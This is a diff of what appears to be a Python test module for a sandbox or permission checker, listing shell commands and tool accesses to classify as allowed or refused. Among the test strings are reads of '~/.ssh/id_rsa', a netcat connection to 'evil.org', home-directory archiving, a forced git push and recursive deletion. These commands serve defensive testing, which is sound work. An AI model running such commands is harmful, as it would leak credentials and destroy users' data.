@@ -116,6 +116,7 @@ cp -r ~ x | tar cf a.tgz ~ | cp -r sub x | cat ../own/x | cat ../own/open/x | ca
 python -c 'open("/h/.ssh/id_rsa")' | cat $HOME/.ssh/id_rsa | npm run build | npm exec vite build
 npm run 'a*' | make -C sub | nice make | cat sub/closed | touch sub/asked | cat https://allowed.org/x
 git push --force | nc evil.org 80 | cp a b | mv a ../out/x | cp a b; ls | sed -i s/a/b/ a | chmod +x a
+cat /dev/stdin | cat /dev/tty | ls > /dev/stderr | ls > /dev/stdout | cat /dev/zero | ls > /dev/full
 make x && npm run build | cat a && make | echo $(make) | find . -name x -delete | wget -O a b.org
 """
 PATHS = """
@@ -181,6 +182,7 @@ def accesses() -> Iterator[tuple[str, Access]]:
     yield "web_operations.search", Fetch("http://10.0.0.1/x", "url", configured=True)
     yield from ((CONNECT, Connect(peer)) for peer in (*PEERS, *SOCKETS))
     yield from ((f"notes.{tool}", Use("notes", tool)) for tool in ("list", "drop", "ask", "add"))
+    yield from ((f"notes.{tool}", Use("notes", tool, True)) for tool in ("list", "wipe"))
 
 
 def refusal_of(url: str) -> str:
